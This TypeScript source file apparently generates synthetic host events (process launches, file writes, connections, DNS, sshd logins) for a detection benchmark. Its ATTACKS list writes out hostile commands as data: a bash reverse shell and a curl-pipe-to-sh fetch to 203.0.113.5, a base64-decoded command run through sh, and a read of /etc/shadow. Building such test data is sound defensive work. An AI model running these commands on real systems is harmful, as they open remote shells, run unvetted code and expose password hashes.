import { create, type Event, EventSchema } from '@palisade/protocol';

/**
 * A realistic event mix for the detection benchmark: process launches dominate (as on a busy
 * server), then file writes, exits, connections, DNS and authentication, with about 1% of the
 * launches attacker-shaped. Deterministic for a given count.
 */
const COMMANDS: string[][] = [
  ['/usr/bin/git', 'status', '--porcelain'],
  ['/usr/bin/git', 'log', '--oneline', '-20'],
  ['/usr/bin/ls', '-la', '/var/log'],
  ['/usr/bin/python3', '/opt/app/worker.py', '--queue', 'jobs'],
  ['/usr/bin/node', '/srv/api/dist/main.js', '--port', '8080'],
  ['/bin/sh', '-c', 'tar czf /var/backups/etc.tgz /etc'],
  ['/usr/bin/systemctl', 'is-active', 'nginx'],
  ['/usr/bin/id', '-u'],
  ['/usr/bin/grep', '-rn', 'ERROR', '/var/log/app'],
  ['/usr/bin/make', '-j4'],
  ['/usr/bin/gcc', '-O2', '-c', 'src/parser.c', '-o', 'build/parser.o'],
  ['/usr/bin/cat', '/etc/os-release'],
  ['/usr/bin/curl', '-fsSLo', '/tmp/pkg.tgz', 'https://mirror.example.org/pkg.tgz'],
  ['/usr/sbin/nginx', '-t'],
  ['/usr/bin/ps', 'aux'],
  ['/usr/bin/awk', '{print $1}', '/var/log/nginx/access.log'],
  ['/usr/bin/sed', '-i', 's/a/b/', 'config.ini'],
  ['/usr/bin/find', '/var/cache', '-mtime', '+7', '-delete'],
  ['/usr/bin/npm', 'run', 'build'],
  ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main'],
  ['/usr/bin/sudo', 'apt-get', 'update'],
  ['/usr/bin/apt-get', 'install', '-y', 'jq'],
  ['/usr/bin/dpkg', '--configure', '-a'],
  ['/usr/bin/ssh', 'deploy@staging.internal', 'uptime'],
  ['/usr/bin/rsync', '-a', 'build/', '/srv/app/'],
  ['/usr/bin/date', '+%s'],
  ['/usr/bin/sleep', '1'],
  ['/usr/bin/head', '-n', '20', 'package.json'],
  ['/usr/bin/wc', '-l', 'data.csv'],
  ['/usr/bin/openssl', 'x509', '-in', 'cert.pem', '-noout', '-dates'],
];
const ATTACKS: string[][] = [
  ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
  ['/bin/sh', '-c', 'echo aWQK | base64 -d | sh'],
  ['/dev/shm/.x', '-q'],
  ['/usr/bin/cat', '/etc/shadow'],
  ['/bin/sh', '-c', 'curl -fsSL http://203.0.113.5/i.sh | sh'],
];
const FILES = [
  '/home/dev/src/app/build/parser.o',
  '/var/lib/dpkg/status',
  '/var/log/nginx/access.log',
  '/tmp/ccX1.s',
  '/srv/app/cache/a.json',
  '/etc/cron.d/evil',
];
const HOSTS = ['github.com', 'registry.npmjs.org', 'deb.debian.org', 'api.internal', 'abc.ngrok.io'];

export function makeMixEvents(n: number): Event[] {
  const out: Event[] = [];
  let seed = 1;
  const rnd = (k: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return (seed >> 8) % k;
  };
  const t0 = Date.UTC(2026, 0, 1);
  for (let i = 0; i < n; i++) {
    const kind = rnd(100);
    const attack = kind < 60 && rnd(100) === 0;
    const argv = [...(attack ? ATTACKS[rnd(ATTACKS.length)]! : COMMANDS[rnd(COMMANDS.length)]!)];
    if (!attack && rnd(3) === 0) argv.push(`--id=${rnd(100000)}`);
    const path = argv[0]!;
    const pid = 1000 + rnd(60000);
    const uid = rnd(5) === 0 ? 0 : 1000;
    const process = {
      pid,
      uid: `p-${pid}-${i}`,
      name: path.slice(path.lastIndexOf('/') + 1),
      path,
      cmdLine: argv.join(' '),
      argv,
      cwd: uid === 0 ? '/root' : '/home/dev/src/app',
      createdTimeMs: BigInt(t0 + i),
      user: {
        uid: String(uid),
        name: uid === 0 ? 'root' : 'dev',
        gid: uid,
        euid: uid,
        egid: uid,
        auid: 1000,
      },
      ppid: 500 + rnd(97),
      parent: { pid: 500, uid: 'p-500', name: 'bash', path: '/usr/bin/bash', cmdLine: '-bash' },
    };
    const base = { timeMs: BigInt(t0 + i * 2), severityId: 1, process };
    if (kind < 60) out.push(create(EventSchema, { classUid: 1007, activityId: 1, ...base }));
    else if (kind < 70)
      out.push(
        create(EventSchema, { classUid: 1007, activityId: 2, ...base, hasExitCode: true, exitCode: 0 }),
      );
    else if (kind < 85) {
      const p = FILES[rnd(FILES.length)]!;
      const act = [1, 3, 3, 4, 5][rnd(5)]!;
      out.push(
        create(EventSchema, {
          classUid: 1001,
          activityId: act,
          ...base,
          file: { path: p, name: p.slice(p.lastIndexOf('/') + 1), typeId: 1 },
          ...(act === 5 ? { fileResult: { path: `${p}.new`, name: 'x', typeId: 1 } } : {}),
        }),
      );
    } else if (kind < 93) {
      out.push(
        create(EventSchema, {
          classUid: 4001,
          activityId: 1,
          ...base,
          srcEndpoint: { ip: '10.0.0.5', port: 40000 + rnd(20000) },
          dstEndpoint: { ip: `151.101.${rnd(255)}.${rnd(255)}`, port: [443, 80, 22, 5432][rnd(4)]! },
          connectionInfo: { protocolNum: 6, protocolName: 'tcp', directionId: 2, protocolVerId: 4 },
        }),
      );
    } else if (kind < 98) {
      out.push(
        create(EventSchema, {
          classUid: 4003,
          activityId: 1,
          ...base,
          srcEndpoint: { ip: '10.0.0.5', port: 50000 },
          dstEndpoint: { ip: '10.0.0.1', port: 53 },
          connectionInfo: { protocolNum: 17, protocolName: 'udp', directionId: 2, protocolVerId: 4 },
          query: { hostname: HOSTS[rnd(HOSTS.length)]!, type: 'A', class: 'IN', packetUid: rnd(65535) },
        }),
      );
    } else {
      const ok = rnd(3) !== 0;
      out.push(
        create(EventSchema, {
          classUid: 3002,
          activityId: 1,
          timeMs: base.timeMs,
          severityId: 1,
          statusId: ok ? 1 : 2,
          rawData: ok
            ? `Dec  1 10:00:00 h sshd[812]: Accepted publickey for dev from 10.0.0.9 port ${rnd(60000)} ssh2`
            : `Dec  1 10:00:00 h sshd[812]: Failed password for root from 198.51.100.${rnd(255)} port 4022 ssh2`,
          process: { pid: 812, name: 'sshd' },
          user: { name: ok ? 'dev' : 'root' },
          srcEndpoint: { ip: '10.0.0.9', port: 4022 },
          serviceName: 'sshd',
          authProtocol: ok ? 'publickey' : 'password',
          isRemote: true,
        }),
      );
    }
  }
  return out;
}
